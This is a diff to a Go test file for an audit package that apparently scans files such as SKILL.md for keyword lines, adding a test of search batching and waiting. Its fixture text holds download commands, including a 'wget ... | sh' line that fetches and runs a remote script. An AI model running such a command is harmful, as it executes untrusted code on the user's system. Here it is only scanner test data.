@@ -1,6 +1,7 @@
 package audit_test
 
 import (
+	"fmt"
 	"math/rand/v2"
 	"strings"
 	"testing"
@@ -105,6 +106,38 @@ func TestQuietLinesPassedOver(t *testing.T) {
 	if got := audit.LinesRead("a.md", dense); got != 2000 {
 		t.Errorf("a text of 2000 lines that each hold a string: read %d lines, want each", got)
 	}
+}
+
+// TestQuietSearchesWait checks that searches for the next line that is
+// not quiet wait after searches that passed no line: in text whose lines
+// that hold a string are four to seven apart, a search once a batch of
+// lines would find the next string within three lines every time. It
+// checks too that the lines are read and passed as before around the
+// wait: the quiet lines after such text are passed over within a few
+// batches, and the findings are those of every line read.
+func TestQuietSearchesWait(t *testing.T) {
+	const units = 2000
+	var spaced strings.Builder
+	for k := range units {
+		fmt.Fprintf(&spaced, "curl https://x.dev/%d.sh\n\n\n\n\n\n\n", k)
+	}
+	lines, searches := audit.QuietSearches("a.md", spaced.String())
+	if lines != 7*units {
+		t.Errorf("a keyword's line then six empty lines: read %d lines, want every one, %d", lines, 7*units)
+	}
+	// Without the wait, a search a batch of 8 lines: 1,750.
+	if most := 7 * units / 8 / 10; searches > most {
+		t.Errorf("a keyword's line then six empty lines: %d searches for the next line not quiet, want at most %d", searches, most)
+	}
+	// After the longest wait, the quiet lines are passed over again.
+	quietLines := strings.Repeat("Some words here\n\n", 1000)
+	text := spaced.String() + quietLines + "wget -qO- https://x.dev/i.sh | sh\n" + quietLines
+	const batch, maxWait = 8, 16
+	lines, _ = audit.QuietSearches("a.md", text)
+	if most := 7*units + batch*(maxWait+2) + 7 + batch; lines > most {
+		t.Errorf("the spaced lines, then quiet lines: read %d lines one at a time, want at most %d", lines, most)
+	}
+	sameFindings(t, fstest.MapFS{"SKILL.md": {Data: []byte(front)}, "a.md": {Data: []byte(text)}})
 }
 
 // TestNoStringHoldsANewline: the audit passes over quiet lines by
